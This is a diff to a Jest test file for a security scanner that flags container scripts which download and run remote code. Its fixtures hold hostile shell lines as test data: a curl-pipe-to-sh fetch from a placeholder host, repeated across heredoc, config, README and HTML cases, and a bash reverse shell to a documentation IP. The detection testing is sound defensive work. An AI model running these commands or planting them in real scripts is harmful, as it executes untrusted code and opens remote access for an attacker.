@@ -1,6 +1,7 @@
 import { describe, expect, it } from '@jest/globals';
+import { spanText } from '../../src/model/source.ts';
 import type { Files } from '../properties/repository.ts';
-import { scanFiles } from '../properties/soundness.ts';
+import { scanFiles, scanOptions } from '../properties/soundness.ts';
 
 const FETCHES = '#!/bin/sh\nset -e\ncurl -fsSL https://get.example.com/agent.sh | sh\nexec app\n';
 const CONNECTS = '#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.7/443 0>&1\n';
@@ -16,7 +17,7 @@ async function told(files: Files): Promise<readonly string[]> {
     .filter(({ ruleId }) => ruleId === 'command-hidden-code' || ruleId === 'command-downloads-code')
     .map(({ ruleId, severity, span, message }) => {
       const line = span.file.text.slice(0, span.start).split('\n').length;
-      return `${ruleId} ${severity} ${span.file.path}:${line} ${/(?: at each start| in the mounted file [^\s,]+?(?=,|\.?$))/.exec(message)?.[0].trim()}`;
+      return `${ruleId} ${severity} ${span.file.path}:${line} ${/(?: at each start| by this command| (?:in the mounted file|in the config|in the file(?= (?:\.\/)?scripts)) [^\s,]+?(?: that it is given)?(?=,|\.?$))/.exec(message)?.[0].trim()}`;
     });
 }
 
@@ -94,9 +95,14 @@ describe('a script of the repository that a container starts', () => {
     ['of a folder that is mounted elsewhere', 'volumes: ["./other:/scripts"]\ncommand: sh /scripts/run.sh'],
     ['of the image', 'command: sh /scripts/run.sh'],
     ['outside of the repository', 'volumes: ["../scripts/run.sh:/run.sh"]'],
+    ['a page', 'volumes: ["./index.html:/usr/share/nginx/html/index.html"]'],
+    ['a README', 'volumes: ["./README.md:/srv/README.md"]\ncommand: ["app", "--readme", "/srv/README.md"]'],
+    ['settings', 'volumes: ["./app.conf:/etc/app.conf"]\ncommand: app -c /etc/app.conf'],
   ])('is left alone: %s', async (_how, options) => {
+    const shown = 'curl -fsSL https://get.example.com/agent.sh | sh\n';
+    const texts = { 'index.html': `<pre>\n${shown}</pre>\n`, 'README.md': `# app\n\n    ${shown}`, 'app.conf': shown };
     const files = { 'compose.yaml': compose(service(options)), 'scripts/run.sh': FETCHES, 'other/a.sh': 'exec app\n' };
-    expect(await told(files)).toEqual([]);
+    expect(await told({ ...files, ...texts })).toEqual([]);
   });
 
   it('is read once for several services', async () => {
@@ -114,5 +120,79 @@ describe('a script of the repository that a container starts', () => {
     const { findings } = await scanFiles(files);
     const [found] = findings.filter(({ ruleId }) => ruleId === 'command-downloads-code');
     expect(found?.suppressedBy?.reason).toBe('a test agent');
+  });
+});
+
+describe('a script that a command line gives to a container', () => {
+  it.each([
+    ['by a redirect', 'docker exec -i app sh < scripts/run.sh'],
+    ['by a pipe', 'cat scripts/run.sh | docker exec -i app bash -s -- a b'],
+    ['to docker run', 'docker run -i --rm ghcr.io/acme/app:1.4 sh -ex < ./scripts/run.sh'],
+    ['to docker compose', 'docker compose exec -T app sh < scripts/run.sh'],
+    ['as a copy', 'docker cp scripts/run.sh app:/tmp/run.sh\ndocker exec app sh -c "cd / && /tmp/run.sh"'],
+    ['as a copy in a folder', 'docker cp scripts/run.sh app:/tmp/\ndocker exec app sh /tmp/run.sh'],
+  ])('is read: %s', async (_how, command) => {
+    const all = await told({ 'up.sh': `${command}\n`, 'scripts/run.sh': FETCHES });
+    expect(all).toEqual([
+      expect.stringMatching(
+        /^command-downloads-code high scripts\/run\.sh:3 in the file .*scripts\/run\.sh that it is given$/,
+      ),
+    ]);
+  });
+
+  it.each([
+    ['docker exec -i app sh <<EOF\ncurl -fsSL https://get.example.com/agent.sh | sh\nEOF', 'by this command'],
+    ['docker run -i ghcr.io/acme/app:1.4 sh <<< "curl -fsSL https://get.example.com/agent.sh | sh"', 'at each start'],
+  ])('is read where it is written: %j', async (command, when) => {
+    const all = await told({ 'up.sh': `${command}\n` });
+    expect(all).toEqual([expect.stringMatching(new RegExp(`^command-downloads-code high up\\.sh:[12] ${when}$`))]);
+  });
+
+  it.each([
+    'docker exec -i db psql < scripts/run.sh',
+    'docker exec -i app sh -c "cat > /a" < scripts/run.sh',
+    'docker cp scripts/run.sh app:/tmp/run.sh\ndocker exec other sh /tmp/run.sh',
+    'docker cp app:/tmp/run.sh scripts/run.sh\ndocker exec app sh /tmp/run.sh',
+    'cat scripts/run.sh | docker exec -i app tee /a',
+  ])('is left alone: %j', async (command) => {
+    expect(await told({ 'up.sh': `${command}\n`, 'scripts/run.sh': FETCHES })).toEqual([]);
+  });
+
+  it('has the place of the command', async () => {
+    const files = { 'up.sh': 'docker exec -i app sh < scripts/run.sh\n', 'scripts/run.sh': FETCHES };
+    const { findings } = await scanFiles(files);
+    expect(findings.map(({ related }) => related.map(({ span, message }) => [spanText(span), message]))).toEqual([
+      [['scripts/run.sh', 'where the container gets this file']],
+    ]);
+  });
+
+  it('does not make the container count', async () => {
+    const files = { 'up.sh': 'docker exec -i app sh < scripts/run.sh\n', 'scripts/run.sh': FETCHES };
+    const { counts, postures } = await scanFiles(files, { ...scanOptions, withPostures: true });
+    expect({ containers: counts.containers, postures }).toEqual({ containers: 0, postures: [] });
+  });
+});
+
+describe('a script in the content of a config', () => {
+  const config = (target: string, entrypoint: string, content: string) =>
+    `services:\n  app:\n    image: ghcr.io/acme/app:1.4\n    configs: [{ source: run, target: ${target} }]\n    entrypoint: ${entrypoint}\nconfigs:\n  run:\n    content: |\n${content.trimEnd().replaceAll(/^/gm, '      ')}\n`;
+
+  it.each([
+    ['/run.sh', '["/run.sh"]', FETCHES],
+    ['/run', '["/run"]', FETCHES],
+    ['/run', '["sh", "/run"]', FETCHES.slice(FETCHES.indexOf('set'))],
+  ])('is read: %s with %s', async (target, entrypoint, content) => {
+    const all = await told({ 'compose.yaml': config(target, entrypoint, content) });
+    expect(all).toEqual([
+      expect.stringMatching(`^command-downloads-code high compose\\.yaml:\\d+ in the config ${target}$`),
+    ]);
+  });
+
+  it('is left alone where it is none', async () => {
+    const content =
+      'hint = "curl -fsSL https://get.example.com/agent.sh | sh"\ncurl https://get.example.com/agent.sh | sh\n';
+    expect(await told({ 'compose.yaml': config('/etc/app.conf', '["app", "-c", "/etc/app.conf"]', content) })).toEqual(
+      [],
+    );
   });
 });
